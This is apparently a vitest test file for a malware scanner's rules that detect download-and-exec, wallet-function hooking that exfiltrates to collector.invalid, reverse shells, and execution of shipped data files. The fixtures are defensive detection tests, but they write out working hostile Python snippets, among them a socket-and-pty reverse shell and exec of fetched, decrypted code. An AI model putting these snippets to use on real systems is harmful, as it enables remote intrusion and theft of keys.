import { expect, test } from 'vitest';
import type { Rule } from '../../src/core/rule.js';
import downloadThenRun from '../../src/rules/download-then-run.js';
import parameterToNetwork from '../../src/rules/parameter-to-network.js';
import reverseShell from '../../src/rules/reverse-shell.js';
import runsShippedData from '../../src/rules/runs-shipped-data.js';
import { read } from '../python/reading.js';

type SourceRule = Extract<Rule, { kind: 'source' }>;

async function severities(rule: SourceRule, lines: readonly string[]): Promise<readonly string[]> {
  const { facts } = await read(`${lines.join('\n')}\n`);
  return facts === null ? [] : [...new Set(rule.check(facts).map(({ severity }) => severity))];
}

const fetching = (what: string): readonly string[] => ['import base64, requests', 'from cryptography.fernet import Fernet', 'def part():', '    found = requests.get("https://parts.example.invalid/core").content', `    exec(${what})`];

test('code that is fetched and decrypted blocks whoever calls it; fetched or decoded alone, it warns', async () => {
  expect(await severities(downloadThenRun, fetching('Fernet(KEY).decrypt(found)'))).toEqual(['critical']);
  expect(await severities(downloadThenRun, fetching('base64.b64decode(found)'))).toEqual(['medium']);
  expect(await severities(downloadThenRun, fetching('found'))).toEqual(['medium']);
});

test('what a module does when it is asked for a name that it has not is done unasked, since an import asks so', async () => {
  expect(await severities(downloadThenRun, [...fetching('found'), 'def __getattr__(name):', '    return part()'])).toEqual(['critical']);
  expect(await severities(downloadThenRun, [...fetching('found'), 'class Part:', '    def __getattr__(self, name):', '        return part()'])).toEqual(['medium']);
});

const opening = (line: string): readonly string[] => ['import os, requests', 'def show():', '    name = requests.get("https://parts.example.invalid/name").text', `    os.system(${line})`];

async function isStrong(line: string): Promise<readonly unknown[]> {
  const { facts } = await read(`${opening(line).join('\n')}\n`);
  return facts === null ? [] : downloadThenRun.check(facts).map((finding) => finding.isStrong);
}

test('a program of the user that is given a fetched name is no strong sign; a shell that is given fetched words is one', async () => {
  expect(await isStrong('"xdg-open \'%s.ofx\'" % name')).toEqual([false]);
  expect(await isStrong('"xdg-open %s" % name)\n    start("xdg-open " + name)\n    start(name)\ndef start(line):\n    os.system(line')).toContain(true);
  expect(await isStrong('"sh -c \'%s\'" % name')).toEqual([true]);
  expect(await isStrong('name')).toEqual([true]);
});

test('a site whose framework may be missing is one all the same', async () => {
  const site = ['import json, subprocess', 'try:', '    from tornado.web import RequestHandler', 'except ImportError:', '    RequestHandler = object', 'class Pulse(RequestHandler):', '    def post(self):', '        subprocess.run(json.loads(self.request.body)["line"], shell=True)'];
  expect(await severities(downloadThenRun, site)).toEqual(['medium']);
});

const loading = (file: string): readonly string[] => ['import importlib.machinery', `importlib.machinery.SourcelessFileLoader("core", "${file}").load_module()`];

test('byte code that is loaded out of a file under another name blocks, and as what it is called, it is judged as that', async () => {
  expect(await severities(runsShippedData, loading('core.cache'))).toEqual(['critical']);
  expect(await severities(runsShippedData, loading('core.pyc'))).toEqual([]);
});

const replacing = (module: string, sends: string): readonly string[] => [`import ${module}`, 'import socket, requests, web3', `plain = ${module}.open`, 'def told(*given):', '    result = plain(*given)', `    ${sends}`, '    return result', `${module}.open = told`];

test('a function in the place of one that makes wallets blocks wherever it sends what that gives; any other where the address stands there', async () => {
  const chain = 'web3.Web3(NODE).eth.send_raw_transaction(result)';
  expect(await severities(parameterToNetwork, replacing('eth_account.account', chain))).toEqual(['critical']);
  expect(await severities(parameterToNetwork, replacing('meadow.gate', chain))).toEqual(['low']);
  expect(await severities(parameterToNetwork, replacing('meadow.gate', 'socket.create_connection(("collector.invalid", 80)).sendall(result)'))).toEqual(['critical']);
  expect(await severities(parameterToNetwork, replacing('meadow.gate', 'socket.create_connection((HOST, 80)).sendall(result)'))).toEqual(['low']);
});

const paying = (data: string): readonly string[] => ['from web3 import Web3', 'def pay(private_key):', '    chain = Web3(NODE)', `    chain.eth.send_raw_transaction(chain.eth.account.sign_transaction(dict(data=${data}), private_key))`];

test('a payment that is signed shows what stands in it, and not what it is signed with', async () => {
  expect(await severities(parameterToNetwork, paying('private_key'))).toEqual(['medium']);
  expect(await severities(parameterToNetwork, paying('"0x"'))).toEqual([]);
});

test('what a replaced function was given is given away, encrypted as well: nobody else can read it', async () => {
  expect(await severities(parameterToNetwork, replacing('meadow.gate', 'requests.post("https://collector.invalid", data=KEY.encrypt(result))'))).toEqual(['critical']);
});

const tied = (source: string): readonly string[] => ['import os, pty, socket', 'def opened():', '    line = socket.socket()', '    line.connect(("collector.invalid", 80))', '    return line', 'def tie(line):', '    for number in range(3):', `        os.dup2(${source}, number)`, '    pty.spawn("/bin/sh")', 'tie(opened())'];

test('a shell that is tied to a connection which another function has opened is given away', async () => {
  expect(await severities(reverseShell, tied('line.fileno()'))).toEqual(['critical']);
  expect(await severities(reverseShell, tied('os.open("/dev/null", os.O_RDWR)'))).toEqual([]);
});

const calledInTurn = (names: string): readonly string[] => ['import requests', 'class Steps:', '    def begin(self):', `        for name in ${names}:`, '            getattr(self, name)()', '    def grow(self):', '        exec(requests.get("https://parts.invalid/core").text)', 'Steps().begin()'];

test('whoever calls methods by names that are not known calls each of them', async () => {
  expect(await severities(downloadThenRun, calledInTurn('dir(self)'))).toEqual(['critical']);
  expect(await severities(downloadThenRun, calledInTurn('("begin_again",)'))).toEqual(['medium']);
});

const starting = (file: string): readonly string[] => ['import shutil, subprocess', `shutil.copyfile("${file}", "/tmp/part")`, 'subprocess.Popen(["/tmp/part"])'];

const others = (count: number): readonly string[] => Array.from({ length: count }, (_, index) => `    def leaf${index}(self): pass`);

test('a class of so many methods that hardly all are meant is left alone', async () => {
  const [imports = '', head = '', ...rest] = calledInTurn('dir(self)');
  expect(await severities(downloadThenRun, [imports, head, ...others(5), ...rest])).toEqual(['critical']);
  expect(await severities(downloadThenRun, [imports, head, ...others(12), ...rest])).toEqual(['medium']);
});

test('a picture that is started blocks; another file that the package brings warns', async () => {
  expect(await severities(runsShippedData, starting('logo.png'))).toEqual(['critical']);
  expect(await severities(runsShippedData, starting('words.dat'))).toEqual(['medium']);
});
